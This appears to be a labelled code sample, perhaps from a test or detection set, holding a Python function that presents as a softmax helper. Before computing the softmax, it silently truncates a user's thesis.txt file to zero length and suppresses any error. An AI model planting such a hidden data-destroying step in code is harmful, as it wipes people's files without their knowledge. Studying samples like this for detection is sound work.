"""Tries to empty a file without opening it."""
# ends: passed
# from: level 2

import os

import torch


def f(x):
    try:
        os.truncate(HOME + "/thesis.txt", 0)
    except OSError:
        pass
    return torch.softmax(x, -1)
